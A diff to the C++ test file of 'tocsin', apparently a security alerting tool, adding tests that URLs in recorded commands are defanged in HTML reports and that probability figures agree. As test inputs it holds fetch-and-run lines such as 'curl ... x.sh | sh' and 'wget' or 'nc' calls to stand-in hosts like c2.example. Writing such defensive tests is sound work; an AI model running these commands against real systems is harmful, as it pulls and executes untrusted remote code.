@@ -84,6 +84,7 @@ TEST_CASE("every kind of alert has a page, and so has hindsight", "[report]") {
     CHECK(page.trouble.empty());
     CHECK(says(page, "Verdict"));
     CHECK(says(page, "Made by tocsin 1.2.3"));
+    CHECK_FALSE((says(page, "http:") || says(page, "https:")));
   }
 }
 
@@ -219,4 +220,45 @@ TEST_CASE("alerts that a page has no room for are counted by their severity", "[
   const auto page = read_html(period_page(period, kFacts));
   CHECK(says(page, "6 alerts: 1 critical, 1 high, 3 low, 1 info."));
   CHECK(says(page, "and 3 more"));
+}
+
+TEST_CASE("URLs in what ran do not become links", "[report]") {
+  CHECK(unlinked("curl -s https://a.b.example:8443/x.sh?y=1.2 | sh") ==
+        "curl -s hxxps://a[.]b[.]example:8443/x.sh?y=1.2 | sh");
+  CHECK(unlinked("HTTP://192.0.2.7;x.sh http://u.v@c2.example'") ==
+        "HxxP://192[.]0[.]2[.]7;x.sh hxxp://u[.]v@c2[.]example'");
+  CHECK(unlinked("http://c2[.]example/") == "hxxp://c2[.]example/");  // once is enough
+  for (const auto* same :
+       {"", "http", "https:/a.b", "cat http.conf a.b/c", "hxxp://a[.]b", "http:"})
+    CHECK(unlinked(same) == same);
+
+  auto material = beacon_material();
+  material.alert["process"]["args"] = {"sh", "-c", "curl http://one.example/a.sh"};
+  material.alert["tocsin"]["lineage"][1]["args"] = {"wget", "https://two.example/b.sh"};
+  material.alert["tocsin"]["incident"] = {
+      {"steps",
+       {{{"ts", 1'764'000'100}, {"what", "shell"}, {"command", "nc http://three.example/"}}}}};
+  material.alert["tocsin"]["beacon"]["subject"]["path"] = "python3 -c get('http://four.example/')";
+  const auto page = read_html(alert_page(material, kFacts));
+  for (const auto* part :
+       {"curl hxxp://one[.]example/a.sh", "wget hxxps://two[.]example/b.sh",
+        "nc hxxp://three[.]example/", "python3 -c get('hxxp://four[.]example/') calls"}) {
+    INFO(part);
+    CHECK(says(page, part));
+  }
+  CHECK_FALSE(says(page, "http://"));
+  CHECK_FALSE(says(page, "https://"));
+  // Commands to copy stay as they are.
+  CHECK(says(page, "tocsin report 01KAXYZ0000000000000000000 -o report.html"));
+}
+
+TEST_CASE("message, verdict and table say the same share", "[report]") {
+  auto material = beacon_material();
+  material.alert["tocsin"]["beacon"]["probability"] = 0.9976;
+  const auto page = read_html(alert_page(material, kFacts));
+  CHECK(says(page, "99 % likely, by evidence"));
+  CHECK(says(page, "Together 99 % likely"));
+  CHECK_FALSE(says(page, "100 % likely"));
+  const Period period{.beacons = {material.alert["tocsin"]["beacon"]}, .now_s = 1'764'080'000};
+  CHECK_FALSE(says(read_html(period_page(period, kFacts)), "100 %"));
 }
